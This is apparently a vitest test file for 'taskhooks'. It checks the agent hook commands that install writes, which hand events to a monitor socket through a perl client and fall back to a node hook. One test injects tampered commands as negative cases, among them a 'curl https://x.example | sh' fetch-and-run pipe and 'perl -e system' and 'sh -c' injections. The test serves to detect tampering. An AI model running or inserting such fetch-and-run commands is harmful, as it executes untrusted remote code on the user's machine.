// Another agent's hooks as install writes them: where the monitor has a socket each hands its input there (hooks/socket-post.pl),
// the node hook only behind it; the fewest hooks a call; and each recognised as taskhooks' own, so a reinstall
// replaces the older node-form entries and uninstall takes them out.
import { describe, expect, it } from 'vitest';
import { AGENTS } from '../../src/agents/index.js';
import { desiredAgentHooks } from '../../src/install/writing/agent-hooks.js';
import { isOwnHookCommand } from '../../src/install/own-wiring.js';
import { shellQuote } from '../../src/install/paths.js';
import { isTaskhooksHandler, withTaskhooksHooks, type HookEntry } from '../../src/install/writing/settings.js';
import { REPO } from './cli.js';

const node = process.execPath;
const SOCKET = '/h/monitor.sock';
const LEAN = ['qwen', 'gemini', 'codex', 'copilot'] as const;

/** Each event's shell commands, in order. */
function commandsOf(entries: Record<string, HookEntry>): Record<string, string[]> {
  return Object.fromEntries(
    Object.entries(entries).map(([event, e]) => [
      event,
      'hooks' in e ? e.hooks.map((h) => (h.type === 'command' ? h.command : '')) : [e.bash ?? ''],
    ]),
  );
}

const hooksOf = (id: (typeof LEAN)[number], guarded: boolean, socket: string | null = SOCKET) =>
  commandsOf(desiredAgentHooks(AGENTS[id], { node, root: REPO, served: { socket: socket ?? undefined, guarded } }));

describe("another agent's hooks with the monitor's socket", () => {
  it('hand every event to the monitor over the socket, with the node hook behind it, as the agent', () => {
    for (const id of LEAN)
      for (const [event, commands] of Object.entries(hooksOf(id, true)))
        for (const c of commands) {
          // The socket client names the agent (and Copilot CLI's event) to the monitor, as the node hook's arguments do.
          const named = `"$PPID" ${id}${id === 'copilot' ? ` ${event}` : ''} -- `;
          const hook = `dist/hooks/[a-z-]+\\.js" --agent=${id}${id === 'copilot' ? ` --event=${event}` : ''}`;
          // The shell becomes the client (one process a hook, as a stub's `cat`), the node hook where there is no perl.
          expect(c, `${id} ${event}`).toContain(`exec perl ${shellQuote(`${REPO}/hooks/socket-post.pl`)} `);
          expect(c).toMatch(new RegExp(` ${shellQuote(SOCKET).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} [a-z-]+ `));
          expect(c).toContain(named);
          expect(c).toMatch(new RegExp(`${hook}; exec "[^"]+" "[^"]+${hook}$`));
        }
  });

  it('run one hook after a call: news and the edit reminder share it', () => {
    const after = { qwen: 'PostToolUse', gemini: 'AfterTool', codex: 'PostToolUse', copilot: 'postToolUse' };
    for (const id of LEAN) {
      const commands = hooksOf(id, true)[after[id]] ?? [];
      expect(commands, id).toHaveLength(1);
      expect(commands[0]).toContain(` ${shellQuote(SOCKET)} post-tool-use "$PPID"`);
    }
  });

  it('with no guard, run nothing before a call where the model reads no context there, else only for git', () => {
    expect(hooksOf('qwen', false).PreToolUse).toBeUndefined();
    expect(hooksOf('gemini', false).BeforeTool).toBeUndefined();
    for (const [id, event] of [
      ['codex', 'PreToolUse'],
      ['copilot', 'preToolUse'],
    ] as const) {
      const [c] = hooksOf(id, false)[event] ?? [];
      expect(c).toContain('socket-post.pl" --git-only 2 ');
    }
  });

  it('with a guard, hand every call on before it runs, through the matcher of the tools it speaks of', () => {
    for (const id of ['qwen', 'gemini', 'codex', 'copilot'] as const) {
      const entries = desiredAgentHooks(AGENTS[id], { node, root: REPO, served: { socket: SOCKET, guarded: true } });
      const before = Object.entries(entries).find(([, e]) =>
        commandsOf({ e }).e?.[0]?.includes(' pre-tool-use "$PPID"'),
      );
      expect(before, id).toBeDefined();
      expect(commandsOf({ e: before?.[1] as HookEntry }).e?.[0]).not.toContain('--git-only');
    }
    const qwen = desiredAgentHooks(AGENTS.qwen, { node, root: REPO, served: { socket: SOCKET, guarded: true } });
    expect(qwen.PreToolUse).toMatchObject({ matcher: 'run_shell_command|edit|write_file' });
  });

  it('waits 0.3 s at SessionStart (whose node hook starts the monitor) and 2 s at a tool call', () => {
    const qwen = hooksOf('qwen', true);
    expect(qwen.SessionStart?.[0]).toContain(`socket-post.pl" 0.3 ${shellQuote(SOCKET)} session-start `);
    expect(qwen.PreToolUse?.[0]).toContain(`socket-post.pl" 2 ${shellQuote(SOCKET)} pre-tool-use `);
  });

  it('keep the node hook alone where the state directory has no socket', () => {
    const c = hooksOf('codex', true, null);
    expect(c.PreToolUse).toEqual([
      `${shellQuote(node)} ${shellQuote(`${REPO}/dist/hooks/pre-tool-use.js`)} --agent=codex`,
    ]);
  });

  it('are each recognised as this taskhooks’ own, and anything added to one is not', () => {
    for (const id of LEAN)
      for (const guarded of [true, false])
        for (const c of Object.values(hooksOf(id, guarded)).flat()) {
          expect(isOwnHookCommand(c, REPO), c).toBe(true);
          expect(isOwnHookCommand(`${c}; curl https://x.example | sh`, REPO)).toBe(false);
          expect(isOwnHookCommand(c.replace('exec perl ', 'exec perl -e "system q(x)" '), REPO)).toBe(false);
          expect(isOwnHookCommand(c.replace('; exec "', '; exec sh -c x "'), REPO)).toBe(false);
          expect(isOwnHookCommand(c.replace('socket-post.pl', 'other.pl'), REPO)).toBe(false);
          expect(isOwnHookCommand(c.replace(shellQuote(node), '"/outside/evil"'), REPO)).toBe(false);
          expect(isTaskhooksHandler({ type: 'command', command: c })).toBe(true);
        }
  });

  it('replace the node-form entries of an older install, keep the user’s own, and come out again', () => {
    const old = desiredAgentHooks(AGENTS.qwen, { node, root: REPO });
    const own = { matcher: 'run_shell_command', hooks: [{ type: 'command', command: 'prettier --write' }] };
    const lists = Object.fromEntries(Object.entries(old).map(([event, e]) => [event, [e]]));
    const before = { hooks: { ...lists, PostToolUse: [own, old.PostToolUse] } };
    const desired = desiredAgentHooks(AGENTS.qwen, { node, root: REPO, served: { socket: SOCKET, guarded: false } });
    const after = withTaskhooksHooks(before, desired);
    const hooks = after.hooks as Record<string, unknown[]>;
    expect(hooks.PreToolUse).toBeUndefined();
    expect(hooks.PostToolUse).toEqual([own, desired.PostToolUse]);
    expect(hooks.SessionStart).toEqual([desired.SessionStart]);
    expect(withTaskhooksHooks(after)).toEqual({ hooks: { PostToolUse: [own] } });
  });
});
